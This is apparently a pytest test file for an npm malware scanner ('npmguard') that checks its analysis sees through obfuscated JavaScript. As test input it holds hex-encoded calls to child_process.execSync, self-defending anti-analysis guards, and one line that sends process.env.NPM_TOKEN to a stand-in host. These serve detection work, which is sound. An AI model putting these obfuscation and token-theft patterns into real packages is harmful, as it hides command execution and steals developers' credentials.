from __future__ import annotations

import pytest

from npmguard.config import Limits
from npmguard.javascript.facts import extract_facts
from npmguard.model import FactKind

ONCE = """
const once = (function () {
  let first = true;
  return function (self, task) {
    const run = first ? function () {
      if (task) { const made = task.apply(self, arguments); task = null; return made }
    } : function () {};
    first = false;
    return run;
  };
})();
"""
SEARCHES = "guard.toString().search('(((.+)+)+)+$').toString().constructor(guard).search('(((.+)+)+)+$')"
SILENCES = "const all = Function('return this')(); all.console.log = function () {}; window.stop()"


def calls(code: str) -> set[str]:
    facts = extract_facts("index.js", code.encode(), Limits()).facts
    return {fact.name for fact in facts if fact.kind is FactKind.CALL}


@pytest.mark.parametrize("guard", [SEARCHES, SILENCES], ids=["against formatting", "against consoles"])
def test_a_function_is_worked_out_although_it_defends_itself(guard: str) -> None:
    code = f"""{ONCE}
    function plain(text) {{
      const guard = once(this, function () {{ {guard} }});
      guard();
      return Buffer.from(text, 'hex').toString();
    }}
    require(plain('6368696c645f70726f63657373'))[plain('6578656353796e63')](plain('6c73'));
    """

    assert "child_process.execSync" in calls(code)


@pytest.mark.parametrize(
    "call",
    [
        "once(this, function () { GUARD })()",
        "(function () { once(this, function () { GUARD })() })()",
        "table.call(once, this, function () { GUARD })(), table.kind",
    ],
)
def test_a_guard_that_is_called_where_it_is_made_is_left_out_too(call: str) -> None:
    code = f"""{ONCE}
    const table = {{ call: function (f, a, b) {{ return f(a, b) }}, kind: 'hex' }};
    function plain(text) {{
      {call.replace("GUARD", SILENCES)};
      return Buffer.from(text, table.kind).toString();
    }}
    require(plain('6368696c645f70726f63657373'))[plain('6578656353796e63')](plain('6c73'));
    """

    assert "child_process.execSync" in calls(code)


def test_what_gives_a_variable_of_the_function_its_value_is_no_guard() -> None:
    code = f"""{ONCE}
    function plain(text) {{
      let kind = 'hex';
      const guard = once(this, function () {{ kind = window.name }});
      guard();
      return Buffer.from(text, kind).toString();
    }}
    require(plain('6368696c645f70726f63657373'))[plain('6578656353796e63')](plain('6c73'));
    """

    assert "child_process.execSync" not in calls(code)


def test_a_guard_that_is_called_through_a_table_of_functions_is_left_out_too() -> None:
    code = f"""{ONCE}
    const table = {{
      call: function (f, a, b) {{ return f(a, b) }}, run: function (f) {{ return f() }}, kind: 'hex',
    }};
    function plain(text) {{
      const guard = table.call(once, this, function () {{ {SEARCHES} }});
      return table.run(guard), Buffer.from(text, table.kind).toString();
    }}
    require(plain('6368696c645f70726f63657373'))[plain('6578656353796e63')](plain('6c73'));
    """

    assert "child_process.execSync" in calls(code)


@pytest.mark.parametrize(
    "body",
    [
        "const made = give(this, function () { return Buffer.from(text, 'hex').toString() }); return made()",
        "return give(this, function () { return Buffer.from(text, 'hex').toString() })()",
        "const made = give(this, function () { return Buffer.from(text, 'hex') }); return made().toString()",
        "return give(this, function () { return Buffer.from(text, 'hex') })().toString()",
        "return (0, give(this, function () { return Buffer.from(text, 'hex').toString() })())",
        "const made = give(this, function () { return text }); return plainly(table.run(made))",
    ],
    ids=["returned", "called at once", "in an expression", "called at once in one", "last", "through a table"],
)
def test_what_looks_like_a_guard_and_is_used_is_worked_out(body: str) -> None:
    code = f"""
    const give = function (self, made) {{ return made }};
    const table = {{ run: function (f) {{ return f() }} }};
    const plainly = (text) => Buffer.from(text, 'hex').toString();
    function plain(text) {{ {body} }}
    require(plain('6368696c645f70726f63657373'))[plain('6578656353796e63')](plain('6c73'));
    """

    assert "child_process.execSync" in calls(code)


def test_what_a_guard_that_is_called_at_once_prepares_is_not_lost() -> None:
    code = """
    const run = (self, made) => made;
    function plain(text) {
      const kinds = [];
      run(this, function () { kinds.push('hex') })();
      return Buffer.from(text, kinds[0]).toString();
    }
    require(plain('6368696c645f70726f63657373'))[plain('6578656353796e63')](plain('6c73'));
    """

    assert "child_process.execSync" in calls(code)


def test_what_a_guard_takes_from_elsewhere_is_followed_all_the_same() -> None:
    code = f"""{ONCE}
    function take(key) {{
      const box = {{ v: 'ok' }};
      const guard = once(this, function () {{ box.v = process.env[key] }});
      guard();
      return box.v;
    }}
    module.exports = function () {{ fetch('https://collect.example/?' + take('NPM_TOKEN')) }};
    """
    facts = extract_facts("index.js", code.encode(), Limits()).facts

    assert "npm-token>network" in {fact.name for fact in facts if fact.kind is FactKind.FLOW}
